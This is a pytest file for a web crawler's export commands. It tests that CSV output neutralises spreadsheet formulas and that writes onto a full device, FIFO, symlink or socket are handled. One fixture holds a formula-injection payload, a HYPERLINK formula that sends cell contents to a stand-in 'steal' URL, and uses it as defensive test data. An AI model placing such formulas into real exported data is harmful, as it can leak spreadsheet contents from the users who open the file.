"""Hostile output paths and hostile cells: exports and digests onto a full device, a FIFO, a
symlink or a socket, and crawled text that a spreadsheet would run as a formula (issue 20)."""

from __future__ import annotations

import csv
import io
import os
import socket
import stat
import threading
from pathlib import Path

import pytest
from conftest import TEMPLATE, Labscope, source

from crawler.site_server import SiteServer
from storage.export import FIELDS, as_csv

TITLE = "How China’s DeepSeek Emerged as a Major Player in the AI Landscape"
HOSTILE_TITLE = '=HYPERLINK("http://127.0.0.1:9/steal?"&A1,"Click")'


@pytest.fixture
def hostile(site: SiteServer, labscope: Labscope) -> Labscope:
    """One archived article whose title and author are spreadsheet formulas."""
    html = (site.root / TEMPLATE.lstrip("/")).read_bytes().decode("utf-8")
    page = html.replace(TITLE, HOSTILE_TITLE.replace('"', "&quot;"))
    site.set_page("/hostile/story.html", page.replace(TEMPLATE, "/hostile/story.html").encode())
    labscope.write_config(source("hostile", "page", site.url("/hostile/story.html")))
    assert labscope("crawl").code == 0
    return labscope


def full_device(folder: Path) -> Path:
    """A node of our own for /dev/full (char 1:7) in the test's folder: every write to it fails
    with ENOSPC, and a faulty rename replaces this node, never the system's /dev/full."""
    path = folder / "full"
    try:
        os.mknod(path, 0o666 | stat.S_IFCHR, os.makedev(1, 7))
    except PermissionError:
        pytest.skip("making a device node needs root")
    return path


def test_csv_export_neutralises_formulas_and_bom_is_optional(hostile: Labscope) -> None:
    plain = hostile("export", "--format", "csv")
    assert plain.code == 0, plain.stderr
    row = next(csv.DictReader(io.StringIO(plain.stdout)))
    assert row["title"] == "'" + HOSTILE_TITLE
    assert row["url"].startswith("http")  # an ordinary cell is left as it is
    assert not plain.stdout.startswith("\ufeff")
    target = hostile.config.parent / "out.csv"
    assert hostile("export", "--format", "csv", "--bom", "--output", str(target)).code == 0
    data = target.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfid,url,") and data.count(b"\xef\xbb\xbf") == 1


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised_in_the_csv(start: str) -> None:
    record = {field: None for field in FIELDS} | {"title": f"{start}1+1", "authors": ["a", "b"]}
    row = next(csv.DictReader(io.StringIO("".join(as_csv(iter([record]))))))
    assert (row["title"], row["authors"]) == (f"'{start}1+1", "a; b")


@pytest.mark.parametrize("command", [("export",), ("digest", "--format", "json")])
def test_a_write_onto_a_full_device_fails_in_one_line_and_keeps_the_device(
    hostile: Labscope, command: tuple[str, ...]
) -> None:
    device = full_device(hostile.config.parent)
    result = hostile(*command, "--output", str(device))
    assert result.code == 1, result.stderr
    assert result.stderr.strip().splitlines() == [
        f"labscope: error: cannot write {device}: No space left on device"
    ]
    assert stat.S_ISCHR(device.stat().st_mode)  # not replaced by a regular file
    assert not list(device.parent.glob(".*.tmp"))


def test_a_symlink_is_followed_a_fifo_written_directly_and_a_socket_refused(
    hostile: Labscope,
) -> None:
    folder = hostile.config.parent
    real = folder / "real.jsonl"
    real.write_text("old\n", encoding="utf-8")
    link = folder / "link.jsonl"
    link.symlink_to(real)
    assert hostile("export", "--output", str(link)).code == 0
    assert link.is_symlink() and '"title"' in real.read_text(encoding="utf-8")

    fifo = folder / "pipe"
    os.mkfifo(fifo)
    received: list[bytes] = []
    reader = threading.Thread(target=lambda: received.append(fifo.read_bytes()))
    reader.start()
    result = hostile("export", "--output", str(fifo))
    reader.join(timeout=60)
    assert result.code == 0, result.stderr
    assert b'"title"' in received[0] and stat.S_ISFIFO(fifo.stat().st_mode)

    sock = socket.socket(socket.AF_UNIX)
    sock.bind(str(folder / "sock"))
    refused = hostile("digest", "--output", str(folder / "sock"))
    sock.close()
    assert refused.code == 2, refused.stderr
    assert "it is not a regular file, FIFO or device; give a file path" in refused.stderr
    assert stat.S_ISSOCK((folder / "sock").stat().st_mode)
    assert "Traceback" not in refused.stderr
